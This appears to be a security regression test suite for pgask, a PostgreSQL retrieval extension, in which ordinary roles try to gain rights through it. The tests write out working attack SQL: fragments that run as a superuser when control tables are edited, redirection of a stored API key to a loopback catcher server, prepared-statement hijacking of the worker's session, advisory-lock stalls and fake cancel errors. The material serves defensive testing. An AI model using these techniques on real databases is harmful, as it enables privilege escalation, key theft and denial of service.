"""Second attack round (docs/security.md): ordinary roles try to gain rights, or to run code
with someone else's rights, through pgask, by paths the hostile matrix and the first attack
round do not cover: pgask's own control tables written directly by pipeline admins and
workers, provider keys sent where their holder chooses, advisory-lock keys anyone can take,
what a source owner's code leaves in (or takes from) the sessions that run her reader, and
planted operators and temporary tables on the reading side.

Each test passes when pgask is safe and fails when the attack works. Every role logs in as
itself (its own connection), as real clients do. Probes record what ran as whom in sequences
(nextval and setval survive any rollback, so nothing pgask rolls back hides a call)."""

from __future__ import annotations

import http.server
import os
import threading

import psycopg
import pytest

from pgask.install import INSTALL_LOCK_KEY, install


def process(conn: psycopg.Connection, pipeline: str) -> None:
    for _ in range(5):
        conn.execute("CALL rag.process_queue(%s)", (pipeline,))


def chunk_text(db, pipeline: str, document_id: str) -> list[str]:
    return [r[0] for r in db.execute(
        f"SELECT content FROM rag.{pipeline}_chunks WHERE document_id = %s ORDER BY ordinal",
        (document_id,))]


# --- pgask's control tables, written directly ----------------------------------------------

# A fragment that, wherever it is evaluated, bumps atk.as_superuser only when it runs as a
# superuser (a role without UPDATE on the sequence could not set it anyway), and gives text.
AS_SUPERUSER = ("(SELECT CASE WHEN r.rolsuper THEN pg_catalog.setval('atk.as_superuser', 1)::text"
                " ELSE '' END FROM pg_catalog.pg_roles AS r WHERE r.rolname = current_user)")
# The same for alice: only she (and superusers) may set atk.as_alice.
AS_ALICE = ("(SELECT CASE WHEN current_user = '{alice}'"
            " THEN pg_catalog.setval('atk.as_alice', 1)::text ELSE '' END)")


@pytest.mark.parametrize("who", ["worker", "admin2"])
def test_a_worker_or_admin_cannot_make_pgask_install_run_its_sql_as_a_superuser(cast, who):
    """Attack: pgask_worker and pgask_admin may UPDATE rag.pipelines directly (990's GRANT
    ... ON ALL TABLES IN SCHEMA rag). A member points an existing pipeline at a table a
    superuser owns and replaces its content SQL; the next `pgask install` (every upgrade)
    binds the pipeline again as the superuser it runs as (900_refresh_pipelines.sql ->
    rag._bind_source): the reader is handed to the table's owner, the superuser, and the
    fragment is run in it (check mode), and again whenever rag._source_rows runs it."""
    db = cast.db
    db.execute("CREATE TABLE atk.su_owned (id int PRIMARY KEY, body text)")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    process(db, "victim")
    try:
        cast.as_(who, "UPDATE rag.pipelines SET source = 'atk.su_owned'::regclass,"
                      " content_sql = %s WHERE name = 'victim'", (AS_SUPERUSER,))
    except psycopg.errors.InsufficientPrivilege:
        pass  # safe: the control table is not theirs to write
    install(db)
    try:
        cast.as_(who, "SELECT * FROM rag._source_rows('victim', 'check', NULL)")
    except psycopg.Error:
        pass
    assert cast.counter("as_superuser") == 0, f"{who}'s SQL ran as a superuser"


def test_an_admin_who_is_not_her_member_cannot_rewrite_her_pipelines_sql(cast):
    """Attack: an admin who is not a member of the source's owner (so may not define a
    pipeline over her table: rag._bind_source refuses) writes rag.pipelines.content_sql of
    her pipeline directly; the next `pgask install` binds it again, so his SQL runs with
    her rights (the promise: an admin never runs SQL with rights it did not already have)."""
    db = cast.db
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    process(db, "victim")
    try:
        cast.as_("admin2", "UPDATE rag.pipelines SET content_sql = %s WHERE name = 'victim'",
                 (AS_ALICE.format(alice=cast.alice),))
    except psycopg.errors.InsufficientPrivilege:
        pass
    install(db)
    process(db, "victim")
    assert cast.counter("as_alice") == 0, "admin2's SQL ran as alice"


def test_a_worker_cannot_hand_a_pipelines_chunks_to_public(cast):
    """Attack: a member of pgask_worker repoints the source of a pipeline whose table only
    `reader` may read at a table that PUBLIC may read; the next GRANT by anyone (here a role
    with nothing but CONNECT, on a temporary table of its own) makes rag._on_grant sync the
    chunks' grants to the new "source", at once: every role reads her chunks."""
    db = cast.db
    db.execute("CREATE TABLE atk.open_t (id int PRIMARY KEY, body text)")
    db.execute("GRANT SELECT ON atk.open_t TO PUBLIC")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    process(db, "victim")
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        cast.as_("nobody", "SELECT content FROM rag.victim_chunks")
    try:
        cast.as_("worker", "UPDATE rag.pipelines SET source = 'atk.open_t'::regclass"
                           " WHERE name = 'victim'")
    except psycopg.errors.InsufficientPrivilege:
        pass
    cast.as_("nobody", "CREATE TEMP TABLE mine (x int)")
    cast.as_("nobody", "GRANT SELECT ON mine TO PUBLIC")  # any GRANT will do
    try:
        rows = cast.as_("nobody", "SELECT content FROM rag.victim_chunks").fetchall()
    except psycopg.errors.InsufficientPrivilege:
        rows = []
    assert rows == [], f"a CONNECT-only role reads her chunks: {rows}"


class _KeyCatcher(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_POST(self):  # noqa: N802 - http.server's name
        self.seen.append(str(self.headers.get("Authorization")))
        self.send_response(500)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def key_catcher():
    """An HTTP server on loopback that records the Authorization header of every request."""
    _KeyCatcher.seen = []
    server = http.server.HTTPServer(("127.0.0.1", 0), _KeyCatcher)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1", _KeyCatcher.seen
    server.shutdown()


def test_stored_keys_cannot_be_sent_to_a_server_an_admin_or_worker_chooses(cast, key_catcher):
    """Attack: a key stored with rag.set_secret is "usable, never readable" (admins store keys
    through a definer function and never read them). An admin registers an embedder with
    base_url = a server of his and api_key_env = 'secret:<name>', and a worker (who may not
    register anything) repoints an existing embedder with UPDATE rag.embedders: pgask sends
    the stored key to that server as a bearer token. (The same works for any environment
    variable of the database server: api_key_env names it.)"""
    url, seen = key_catcher
    secret = "sk-a2-" + os.urandom(8).hex()
    cast.db.execute("SELECT rag.set_secret('a2_prod', %s)", (secret,))
    try:
        cast.as_("admin2", "SELECT rag.create_embedder('a2_evil', 'openai', 'm', 3, %s,"
                           " 'secret:a2_prod', '{{\"timeout_seconds\": 3}}')", (url,))
        cast.as_("admin2", "SELECT rag.embed('x', 'a2_evil')")
    except psycopg.Error:
        pass
    cast.db.execute("SELECT rag.create_embedder('a2_real', 'openai', 'm', 3,"
                    " 'https://api.invalid/v1', 'secret:a2_prod', '{\"timeout_seconds\": 3}')")
    try:
        cast.as_("worker", "UPDATE rag.embedders SET base_url = %s WHERE name = 'a2_real'",
                 (url,))
    except psycopg.errors.InsufficientPrivilege:
        pass
    try:
        cast.db.execute("SELECT rag.embed('x', 'a2_real')")
    except psycopg.Error:
        pass
    assert not any(secret in header for header in seen), f"the stored key went to {url}"


# --- advisory-lock keys --------------------------------------------------------------------

def test_a_connect_only_role_cannot_stall_another_owners_documents(cast):
    """Attack: pgask claims a document's chunks with pg_try_advisory_xact_lock on keys
    anyone can compute (hashtext('pgask.chunks ' || chunk table), hashtext(key)); a role with
    nothing but CONNECT takes that key with pg_advisory_lock in its own session and keeps it:
    workers and sync writers leave the document "for later", forever."""
    db = cast.db
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    process(db, "victim")
    cast.as_("nobody", "SELECT pg_advisory_lock(hashtext('pgask.chunks ' || %s),"
                       " hashtext('1'))", ('rag."victim_chunks_1"',))
    cast.as_("bob", "UPDATE {t} SET body = 'Disk full on the standby.' WHERE id = 1")
    db.execute("UPDATE rag.queue SET not_before = now() WHERE pipeline = 'victim'")
    process(db, "victim")
    db.execute("UPDATE rag.queue SET not_before = now() WHERE pipeline = 'victim'")
    process(db, "victim")
    assert chunk_text(db, "victim", "1") == ["Disk full on the standby."], \
        "a CONNECT-only role kept row 1's new text out of the index"


def test_a_connect_only_role_cannot_block_pgask_install(cast):
    """Attack: `pgask install` (and uninstall) wait for pg_advisory_xact_lock(INSTALL_LOCK_KEY),
    a key any role may take and keep: upgrades hang until a superuser finds the session."""
    cast.as_("nobody", "SELECT pg_advisory_lock(%s)", (INSTALL_LOCK_KEY,))
    cast.db.execute("SET statement_timeout = '5s'")
    try:
        install(cast.db)
    except Exception as exc:  # noqa: BLE001 - whatever shape install gives the timeout
        if "statement timeout" not in str(exc):
            raise
        pytest.fail("a CONNECT-only role blocked pgask install")
    finally:
        cast.db.execute("RESET statement_timeout")


# --- what her code leaves in, or takes from, the sessions that run her reader -------------

def _her_content_function(cast, body: str) -> None:
    """alice.grab(t): her content function; `body` runs (as her) only for real rows, so the
    check at rag.create_pipeline (over an all-NULL row) passes."""
    cast.as_("alice", "CREATE FUNCTION {s}.grab(t text) RETURNS text LANGUAGE plpgsql AS $$"
                      " BEGIN IF t IS NOT NULL THEN " + body + " END IF; RETURN t; END $$")


def test_her_code_leaves_no_advisory_lock_in_the_workers_session(cast):
    """Attack: rag._source_rows removes the session advisory locks her code leaves with
    pg_advisory_unlock, once each: a shared lock (pg_advisory_lock_shared) and a lock taken
    twice outlive that, in the worker's long-lived session (from where they block every other
    session that needs the key: any pgask key, any pipeline's documents), while the pipeline
    is refused saying they "were removed"."""
    _her_content_function(cast, "PERFORM pg_advisory_lock_shared(424242);"
                                " PERFORM pg_advisory_lock(424243);"
                                " PERFORM pg_advisory_lock(424243);"
                                " PERFORM pg_advisory_lock(4242, 44);"
                                " PERFORM pg_advisory_lock(4242, 44);")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    worker = cast.conns["worker"]
    process(worker, "victim")
    left = worker.execute("SELECT classid, objid, objsubid, mode FROM pg_locks"
                          " WHERE locktype = 'advisory' AND pid = pg_backend_pid()").fetchall()
    assert left == [], f"her advisory locks stayed in the worker's session: {left}"


def test_her_code_cannot_remove_the_callers_prepared_statements(cast):
    """Attack: her code runs DEALLOCATE ALL inside the reader, in the worker's session: the
    worker's client loses its prepared statements (psycopg's, a pooler's), which no rollback
    brings back; pgask only compares and refuses the pipeline afterwards."""
    _her_content_function(cast, "EXECUTE 'DEALLOCATE ALL';")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    worker = cast.conns["worker"]
    worker.execute("PREPARE client_statement AS SELECT 42")
    # The session ends (FATAL) rather than go on without, or with her replacement of, what
    # its client prepared; the client reconnects.
    with pytest.raises(psycopg.Error, match="replaced or removed prepared statements"):
        process(worker, "victim")
    assert worker.closed or worker.broken


def test_her_code_leaves_nothing_else_in_the_workers_session(cast):
    """Regression (held): what her code changes in the worker's session through the reader
    is undone when the reader returns: settings (search_path, a custom one), a temporary
    table, LISTEN, a WITH HOLD cursor, a prepared statement and an exclusive advisory lock
    (taken once). (Guarded so that the second row raises nothing.)"""
    _her_content_function(cast, "PERFORM set_config('search_path', '{s}, pg_catalog', false);"
                                " PERFORM set_config('a2.mark', 'hers', false);"
                                " CREATE TEMP TABLE IF NOT EXISTS her_temp (x int);"
                                " LISTEN her_channel;"
                                " IF NOT EXISTS (SELECT FROM pg_cursors WHERE name = 'her_cursor')"
                                " THEN EXECUTE 'DECLARE her_cursor CURSOR WITH HOLD FOR SELECT 1';"
                                " EXECUTE 'PREPARE her_statement AS SELECT 1'; END IF;"
                                " IF NOT EXISTS (SELECT FROM pg_locks WHERE locktype = 'advisory'"
                                " AND pid = pg_backend_pid() AND objid = 515151) THEN"
                                " PERFORM pg_advisory_lock(515151); END IF;")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    worker = cast.conns["worker"]
    path = worker.execute("SHOW search_path").fetchone()
    process(worker, "victim")
    assert worker.execute("SHOW search_path").fetchone() == path
    assert worker.execute("SELECT current_setting('a2.mark', true)").fetchone()[0] in (None, "")
    assert worker.execute("SELECT to_regclass('pg_temp.her_temp')").fetchone() == (None,)
    assert worker.execute("SELECT count(*) FROM pg_listening_channels()").fetchone() == (0,)
    assert worker.execute("SELECT count(*) FROM pg_cursors").fetchone() == (0,)
    assert worker.execute("SELECT count(*) FROM pg_prepared_statements"
                          " WHERE name = 'her_statement'").fetchone() == (0,)
    assert worker.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'"
                          " AND pid = pg_backend_pid()").fetchone() == (0,)


def test_her_code_cannot_skip_the_session_cleanup_by_raising(cast):
    """Attack: rag._source_rows compares and cleans the session only when the reader
    returns; the reader re-raises errors of SQLSTATE classes 42 and 0A (and 'keys' mode any
    error), so her code takes a session advisory lock and PREPAREs a statement, then raises
    42501: both stay in the worker's session."""
    _her_content_function(cast, "IF NOT EXISTS (SELECT FROM pg_prepared_statements"
                                " WHERE name = 'her_statement') THEN"
                                " EXECUTE 'PREPARE her_statement AS SELECT 1'; END IF;"
                                " PERFORM pg_advisory_lock(525252);"
                                " RAISE EXCEPTION 'no' USING ERRCODE = '42501';")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    worker = cast.conns["worker"]
    process(worker, "victim")
    assert worker.execute("SELECT count(*) FROM pg_prepared_statements"
                          " WHERE name = 'her_statement'").fetchone() == (0,)
    assert worker.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'"
                          " AND pid = pg_backend_pid()").fetchone() == (0,)


# Her content function: replaces every prepared statement of the session that runs her
# reader (psycopg names its own _pg3_<n>) with one of hers, with the same parameter types,
# then raises an error of class 42 so that rag._source_rows never gets to compare.
REPLACE_CLIENT_STATEMENTS = (
    "DECLARE r record; BEGIN IF t = 'pwn' THEN"
    " FOR r IN SELECT name, parameter_types FROM pg_prepared_statements LOOP"
    " EXECUTE format('DEALLOCATE %I', r.name);"
    " EXECUTE format('PREPARE %I (%s) AS INSERT INTO atk.planted SELECT current_user,"
    " session_user RETURNING 0::bigint', r.name,"
    " array_to_string(r.parameter_types::text[], ', '));"
    " END LOOP;"
    " RAISE EXCEPTION 'nothing to see' USING ERRCODE = '42501';"
    " END IF; RETURN t; END")


@pytest.mark.parametrize("session", ["worker", "superuser"])
def test_her_code_cannot_plant_sql_in_the_workers_prepared_statements(cast, session):
    """Attack (the worker's rights, a superuser's when a superuser runs the worker): `pgask
    worker` calls CALL rag.process_queue(...) on one connection, which psycopg prepares on
    the server after five calls (_pg3_0). Her content function, run by her reader inside that
    CALL, DEALLOCATEs _pg3_0 and PREPAREs her own SQL under that name, then raises 42501 so
    rag._source_rows skips its check. The worker's next poll executes her SQL as the role it
    logged in as (pgask's role switch is local to process_queue's transaction)."""
    from pgask.worker import process_once

    db = cast.db
    db.execute("CREATE TABLE atk.planted (who name, session name)")
    db.execute("GRANT INSERT ON atk.planted TO PUBLIC")
    cast.as_("alice", "CREATE FUNCTION {s}.grab(t text) RETURNS text LANGUAGE plpgsql AS $$ "
             + REPLACE_CLIENT_STATEMENTS + " $$")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    info = db.info
    user = cast.names["worker"] if session == "worker" else info.user
    with psycopg.connect(host=info.host, port=info.port, dbname=info.dbname, user=user,
                         autocommit=True) as worker:
        for _ in range(7):  # as `pgask worker` polls
            process_once(worker, None, 32, 60.0, 300.0)
        cast.as_("alice", "UPDATE {t} SET body = 'pwn' WHERE id = 1")
        for _ in range(3):
            try:
                process_once(worker, None, 32, 60.0, 300.0)
            except psycopg.Error:
                pass
    planted = db.execute("SELECT who::text, session::text FROM atk.planted").fetchall()
    assert planted == [], f"her SQL ran in the worker's session as: {planted}"


# --- the reading side -----------------------------------------------------------------------

def test_a_readers_planted_operators_and_temp_tables_do_not_widen_what_it_sees(cast):
    """Regression (held): rag.pgask_<p>_visible has no SET search_path (it is inlined) and
    runs with the reader's settings. The reader puts a schema of its own first in its
    search_path with an `=` for two integers that is always true and a table named like the
    source, and a temporary table of that name too: her row-level security still hides row
    2's chunks from it, in search and through the chunks view."""
    db = cast.db
    reader = cast.names["reader"]
    cast.as_("alice", "ALTER TABLE {t} ENABLE ROW LEVEL SECURITY")
    cast.as_("alice", f"CREATE POLICY only_one ON {{t}} TO {reader} USING (id = 1)")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    process(db, "victim")
    db.execute(f"CREATE SCHEMA rdr AUTHORIZATION {reader}")
    try:
        cast.as_("reader", "CREATE FUNCTION rdr.yes(a int, b int) RETURNS boolean LANGUAGE sql"
                           " AS 'SELECT true'")
        cast.as_("reader", "CREATE OPERATOR rdr.= (LEFTARG = int, RIGHTARG = int,"
                           " FUNCTION = rdr.yes)")
        cast.as_("reader", "CREATE TABLE rdr.notes (id int PRIMARY KEY, body text)")
        cast.as_("reader", "INSERT INTO rdr.notes VALUES (1, 'x'), (2, 'y')")
        cast.as_("reader", "CREATE TEMP TABLE notes (id int PRIMARY KEY, body text)")
        cast.as_("reader", "INSERT INTO notes VALUES (1, 'x'), (2, 'y')")
        cast.as_("reader", "SET search_path = pg_temp, rdr, pg_catalog, public")
        seen = {r[0] for r in cast.as_("reader", "SELECT document_id FROM rag.victim_chunks")}
        assert seen == {"1"}, seen
        for mode in ("hybrid", "vector", "keyword"):
            found = {r[0] for r in cast.as_(
                "reader", "SELECT document_id FROM rag.search('lock waits orders disk', 10,"
                          " NULL, %s, 'victim')", (mode,))}
            assert found <= {"1"}, (mode, found)
    finally:
        cast.as_("reader", "RESET search_path")
        db.execute("DROP SCHEMA rdr CASCADE")


def test_a_connect_only_role_cannot_attach_or_lock_through_pgasks_public_helpers(cast):
    """Regression (held): rag._attach_capture and rag._lock_nowait are executable by PUBLIC
    (the invoker event trigger needs them); for a role without rights on the source they do
    nothing: no lock taken, no trigger touched."""
    db = cast.db
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', 'body')")
    cast.as_("alice", "ALTER TABLE {t} DISABLE TRIGGER pgask_victim_insert")
    for sql in ("SELECT rag._attach_capture('victim', true)",
                "SELECT rag._lock_nowait(ARRAY['{t}'::regclass], 'ACCESS EXCLUSIVE', 'x')"):
        with pytest.raises(psycopg.Error):
            cast.as_("nobody", sql)
    (enabled,) = db.execute("SELECT tgenabled FROM pg_trigger WHERE tgrelid = %s::regclass"
                            " AND tgname = 'pgask_victim_insert'", (cast.table,)).fetchone()
    assert enabled == "D"


# --- a cancel that is not one ----------------------------------------------------------------

def test_her_fake_cancel_cannot_fail_pgask_install(cast):
    """Attack (denial of service on upgrades): plpgsql's WHEN others does not catch SQLSTATE
    57014 (query_canceled), and her code may RAISE it. Once her pipeline exists she makes her
    content function raise it; `pgask install` binds every pipeline again and runs her reader
    (check mode), whose error escapes the reader's, rag._bind_source's and the install's own
    handlers: every install and upgrade fails."""
    cast.as_("alice", "CREATE FUNCTION {s}.grab(t text) RETURNS text LANGUAGE sql AS 'SELECT t'")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    cast.as_("alice", "CREATE OR REPLACE FUNCTION {s}.grab(t text) RETURNS text"
                      " LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'not really'"
                      " USING ERRCODE = 'query_canceled'; END $$")
    try:
        install(cast.db)
    except psycopg.errors.QueryCanceled:
        pytest.fail("her fake cancel failed pgask install")


def test_her_fake_cancel_cannot_stop_the_worker_for_other_pipelines(cast):
    """Attack (denial of service on others): her content function raises 57014 for real
    rows; rag.process_queue takes it for a cancel (pgask.limits.is_interrupt) and ends the
    whole call with it, every time: another owner's pipeline is never processed (and
    `pgask worker` stops on the error)."""
    db = cast.db
    _her_content_function(cast, "RAISE EXCEPTION 'not really' USING ERRCODE = 'query_canceled';")
    cast.as_("admin", "SELECT rag.create_pipeline('victim', '{t}', '{s}.grab(body)')")
    db.execute("CREATE TABLE atk.other (id int PRIMARY KEY, body text)")
    db.execute("SELECT rag.create_pipeline('other', 'atk.other', 'body')")
    db.execute("INSERT INTO atk.other VALUES (1, 'Another owner''s note.')")
    for _ in range(3):
        try:
            db.execute("CALL rag.process_queue()")
        except psycopg.errors.QueryCanceled:
            pass
    assert chunk_text(db, "other", "1") == ["Another owner's note."], \
        "her fake cancel kept another owner's rows out of the index"
